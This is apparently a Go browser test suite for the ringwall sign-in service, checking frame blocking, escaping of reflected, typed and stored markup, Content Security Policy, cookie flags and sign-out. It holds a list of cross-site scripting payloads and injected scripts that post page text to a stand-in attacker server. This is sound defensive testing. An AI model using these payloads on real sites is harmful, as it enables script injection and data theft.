package webtest_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/ringwall/ringwall/ringwalltest"
)

// evil is a site of an attacker. From another host it is another site to the browser; from ours, on another port, it is
// the same site but another origin, to which SameSite cookies go too.
func evil(t *testing.T, host string, body func(w http.ResponseWriter) string) string {
	t.Helper()
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path != "/" {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		fmt.Fprint(w, "<!doctype html><title>Win a prize</title><link rel=icon href=data:,>"+body(w))
	}))
	server.StartTLS()
	t.Cleanup(server.Close)
	at, err := url.Parse(server.URL)
	if err != nil {
		t.Fatal(err)
	}
	return "https://" + host + ":" + at.Port()
}

// sites are the places from which an attacker may try.
var sites = []struct{ name, host string }{{"another site", "localhost"}, {"another origin of the same site", "127.0.0.1"}}

// The sign-in page in a frame of somebody else's stays empty (S085). A page that may be framed is not, so the test sees frames.
func TestNobodyFramesOurPages(t *testing.T) {
	t.Parallel()
	s := start(t)
	s.SignUp(ann)
	for _, site := range sites {
		t.Run(site.name, func(t *testing.T) {
			// From our host, so that it is as foreign to the page around it as our pages are.
			harmless := evil(t, "127.0.0.1", func(http.ResponseWriter) string { return "<h1>harmless</h1>" })
			b := open(t, s.URL, as{})
			b.signIn(ann, ringwalltest.Password)
			for _, path := range []string{"/auth/login", "/auth/account", "/auth/account/other-devices", "/auth/dev/mail", "/auth/docs", "/auth/nowhere"} {
				trap := evil(t, site.host, func(http.ResponseWriter) string {
					return fmt.Sprintf(`<iframe src="%s%s"></iframe><iframe src="%s/"></iframe>`, s.URL, path, harmless)
				})
				b.visit(trap + "/")
				shown := b.frames()
				if !strings.Contains(shown, harmless+"/") {
					t.Fatalf("the harmless page is not in its frame, so this proves nothing: %s", shown)
				}
				if strings.Contains(shown, s.URL) {
					t.Errorf("%s is framed by %s: %s", path, site.name, shown)
				}
				if got := b.complained(); !mentions(got, "frame-ancestors") && !mentions(got, "X-Frame-Options") {
					t.Errorf("%s was not kept out of the frame by our headers: %q", path, got)
				}
			}
		})
	}
}

// frames are the addresses of what frames show, also of those that have a process of their own.
func (b *browser) frames() string {
	b.t.Helper()
	var shown []string
	for _, f := range must(b, page.GetFrameTree, cdp.Empty{}).FrameTree.ChildFrames {
		shown = append(shown, f.Frame.URL)
	}
	targets, err := chromedp.Targets(b.ctx)
	if err != nil {
		b.t.Fatal(err)
	}
	for _, t := range targets {
		if t.Type != "iframe" || t.BrowserContextID != chromedp.FromContext(b.ctx).BrowserContextID {
			continue
		}
		// The list names what was asked for; the frame itself says what came.
		ctx, end := chromedp.NewContext(b.ctx, chromedp.WithTargetID(t.TargetID), chromedp.WithDetachOnCancel())
		at, err := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href`))
		end()
		if err != nil {
			b.t.Fatalf("look into a frame: %v", err)
		}
		shown = append(shown, at)
	}
	return strings.Join(shown, " ")
}

// payloads are markup and addresses that would run a script wherever they are not escaped for their place.
var payloads = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)>`, `</title><svg onload=alert(1)>`,
	`" autofocus onfocus=alert(1) x="`, `' onmouseover='alert(1)' style='position:fixed;inset:0`, "javascript:alert(1)", "\tjava\nscript:alert(1)", `</textarea><svg/onload=alert(1)>`,
	`<iframe srcdoc="<script>parent.alert(1)</script>">`, `<a href=javascript:alert(1) id=x>x</a><base href=//evil.example/>`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`,
	"\u2028alert(1)\u2029", `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `data:text/html,<script>alert(1)</script>`,
	`"><meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<details open ontoggle=alert(1)>`,
}

// notOurs selects what no page of ours has, and so came from a payload.
const notOurs = `script:not([src^="/auth/static/"]), img, base, object, embed, math, style, textarea, animate, [onerror], [onload], [onfocus], [onmouseover], [onbegin], [ontoggle], [style], ` +
	`a[href^="javascript"], a[href^="data"], a[href*="evil.example"], meta[http-equiv], iframe:not([src^="/auth/dev/mail/"])`

// Markup in any part of an address comes back as text, or not at all (S071).
func TestReflectedMarkupDoesNotRun(t *testing.T) {
	t.Parallel()
	s := start(t)
	b := open(t, s.URL, as{})
	names := []string{"return_to", "done", "token", "email", "code", "error", "next", "lang", "q", "after", "display_name", "csrf_token"}
	for _, payload := range payloads {
		query := url.Values{}
		for _, name := range names {
			query.Set(name, payload)
		}
		for _, path := range []string{
			"/auth/login", "/auth/signup", "/auth/check-mail", "/auth/verify-email", "/auth/forgot-password", "/auth/forgot-password/sent", "/auth/reset-password",
			"/auth/docs", "/auth/problems/" + url.PathEscape(payload), "/auth/" + url.PathEscape(payload), "/" + url.PathEscape(payload),
		} {
			b.visit(path + "?" + query.Encode())
			b.showsNoMarkup(path + " with " + payload)
		}
	}
}

// Markup that is typed into a form comes back as text.
func TestTypedMarkupDoesNotRun(t *testing.T) {
	t.Parallel()
	s := start(t)
	b := open(t, s.URL, as{})
	for _, payload := range payloads {
		b.visit("/auth/signup")
		b.fill("Your name", payload)
		b.fill("Email address", payload)
		b.fill("Password", shortOne)
		b.press("Create account")
		b.showsNoMarkup("signup with " + payload)
		b.visit("/auth/check-mail")
		b.fill("Email address", payload)
		b.fill("Code from the mail", payload)
		b.press("Confirm address")
		b.showsNoMarkup("check-mail with " + payload)
		if got := b.value("email"); printable(strings.ReplaceAll(got, " ", "")) != printable(strings.ReplaceAll(payload, " ", "")) {
			t.Errorf("what was typed is %q, came back as %q", payload, got)
		}
	}
}

// What is stored is escaped where it is shown: what a program says that it is, and names.
func TestStoredMarkupDoesNotRun(t *testing.T) {
	t.Parallel()
	s := start(t)
	s.SignUp(ann)
	for _, payload := range payloads {
		c := s.Client()
		c.Header.Set("User-Agent", "Mozilla/5.0 "+printable(payload)+" Chrome/140.0.0.0 "+printable(payload))
		c.SignIn(ann, ringwalltest.Password)
	}
	b := open(t, s.URL, as{agent: printable(payloads[0])})
	b.signIn(ann, ringwalltest.Password)
	b.showsNoMarkup("the account, with devices that call themselves markup")
	b.press("Sign out all other devices")
	b.showsNoMarkup("the list of other devices")
	b.visit("/auth/account")
	b.pressNth("Sign out", 1)
	b.showsNoMarkup("one device")

	names := 0
	for i, payload := range payloads {
		address := fmt.Sprintf("stored%d@example.org", i)
		c := s.Client()
		c.Header.Set("User-Agent", printable(payload))
		if got := c.Post("/auth/v1/signup", map[string]any{"email": address, "password": first, "display_name": payload}); got.Status != http.StatusAccepted {
			continue // most are refused for what they are
		}
		names++
		c.Post("/auth/v1/email/verify", map[string]any{"token": s.Mail(address, 1).Token()})
		b := open(t, s.URL, as{})
		b.signIn(address, first)
		b.sees(strings.TrimSpace(printable(payload)))
		b.showsNoMarkup("the account of " + payload)
	}
	if names == 0 {
		t.Error("no payload was taken for a name, so none was shown")
	}
	b.visit("/auth/dev/mail")
	b.showsNoMarkup("the mails")
	eval[any](b, `document.querySelectorAll("details").forEach(d => { d.open = true; d.querySelector("iframe").loading = "eager" }), 0`)
	b.settle()
	b.noDialog("the mails as HTML")
}

func printable(text string) string {
	return strings.Map(func(c rune) rune {
		if c < ' ' || c > '~' {
			return -1
		}
		return c
	}, text)
}

// showsNoMarkup fails the test if a script has run, or there is an element that can only come from markup of somebody's.
func (b *browser) showsNoMarkup(where string) {
	b.t.Helper()
	b.noDialog(where)
	if found := eval[[]string](b, `[...document.querySelectorAll(`+quote(notOurs)+`)].map(e => e.outerHTML.slice(0, 100))`); len(found) > 0 {
		b.t.Errorf("%s: there are elements that are not ours: %q", where, found)
	}
}

// Should markup get through one day, our policy stops it (S073).
func TestPolicyStopsInjectedScripts(t *testing.T) {
	t.Parallel()
	s := start(t)
	s.SignUp(ann)
	foreign := evil(t, "localhost", func(http.ResponseWriter) string { return "" })
	b := open(t, s.URL, as{})
	b.signIn(ann, ringwalltest.Password)
	for name, inject := range map[string]string{
		"an inline script":        `document.body.append(Object.assign(document.createElement("script"), {text: "window.pwned = 1"}))`,
		"a handler":               `document.body.insertAdjacentHTML("beforeend", "<img src=/auth/static/none onerror='window.pwned = 1'>")`,
		"a script from elsewhere": `document.body.append(Object.assign(document.createElement("script"), {src: "` + foreign + `/x.js"}))`,
		"a script of data":        `document.body.append(Object.assign(document.createElement("script"), {src: "data:text/javascript,window.pwned=1"}))`,
		"a javascript link":       `(a => { a.href = "javascript:window.pwned = 1"; document.body.append(a); a.click() })(document.createElement("a"))`,
		"a frame with a script":   `document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<script>parent.pwned = 1</scr" + "ipt>"}))`,
		"text as a timer":         `setTimeout("window.pwned = 1", 0)`,
		"a worker":                `try { new Worker("data:text/javascript,1") } catch { }`,
		"a style":                 `document.body.append(Object.assign(document.createElement("style"), {textContent: "body { color: red }"}))`,
		"an image from elsewhere": `document.body.append(Object.assign(new Image, {src: "` + foreign + `/leak?" + document.title}))`,
		"sending data elsewhere":  `fetch("` + foreign + `/leak", {method: "POST", body: document.body.innerText}).catch(() => 0)`,
		"a form to elsewhere":     `document.body.insertAdjacentHTML("beforeend", "<form id=leak method=post action='` + foreign + `/leak'></form>"), document.getElementById("leak").submit()`,
		"another base":            `document.head.append(Object.assign(document.createElement("base"), {href: "` + foreign + `/"}))`,
	} {
		b.visit("/auth/account")
		eval[any](b, `(() => { `+inject+` })(), 0`)
		b.settle()
		if eval[bool](b, `"pwned" in window`) {
			t.Errorf("%s ran", name)
		}
		if got := b.complained(); !mentions(got, "Content Security Policy") {
			t.Errorf("%s was not stopped by our policy: %q", name, got)
		}
		b.at("/auth/account")
		if base := eval[string](b, `document.baseURI`); !strings.HasPrefix(base, s.URL) {
			t.Errorf("%s changed the base to %s", name, base)
		}
	}
}

// No script can read a cookie of ours, and all of them are for this host and for https alone.
func TestScriptsSeeNoCookie(t *testing.T) {
	t.Parallel()
	s := start(t)
	s.SignUp(ann)
	b := open(t, s.URL, as{})
	signsUp(b) // flow and note
	b.signIn(ann, ringwalltest.Password)
	if got := eval[string](b, `document.cookie`); got != "" {
		t.Errorf("document.cookie = %q", got)
	}
	cookies := must(b, network.GetCookies, network.GetCookiesParams{URLs: []string{s.URL}}).Cookies
	if len(cookies) < 3 {
		t.Errorf("there are %d cookies, want at least session, device and flow", len(cookies))
	}
	for _, c := range cookies {
		if c.Name == "__Host-ringwall-note" {
			t.Error("the address that was typed before sign-in is still kept in a cookie")
		}
		if !c.HTTPOnly || !c.Secure || c.SameSite != network.CookieSameSiteLax || c.Path != "/" || c.Domain != "127.0.0.1" || !strings.HasPrefix(c.Name, "__Host-") {
			t.Errorf("cookie %s: HttpOnly %v, Secure %v, SameSite %s, Path %s, Domain %s", c.Name, c.HTTPOnly, c.Secure, c.SameSite, c.Path, c.Domain)
		}
	}
}

// Whoever comes to the device after sign-out finds nothing by the back button.
func TestBackButtonAfterSignOutShowsNothing(t *testing.T) {
	t.Parallel()
	for _, noScript := range []bool{false, true} {
		s := start(t)
		s.SignUp(ann)
		b := open(t, s.URL, as{noScript: noScript})
		b.signIn(ann, ringwalltest.Password)
		b.visit("/auth/account")
		b.press("Sign out")
		b.sees("You are signed out.")
		for range 3 {
			b.back()
			b.seesNot(ann, "Devices")
		}
		if noScript {
			continue // Chromium brings back what it showed a moment ago, and only a script can tell it not to
		}
		// And so does whoever was signed out from elsewhere.
		phone := s.Client()
		phone.SignIn(ann, ringwalltest.Password)
		b.signIn(ann, ringwalltest.Password)
		b.visit("/")
		if got := phone.Delete("/auth/v1/sessions"); got.Status != http.StatusNoContent {
			t.Fatalf("sign out all other devices = %d\n%s", got.Status, got.Body)
		}
		b.back()
		b.seesNot(ann, "Devices")
	}
}
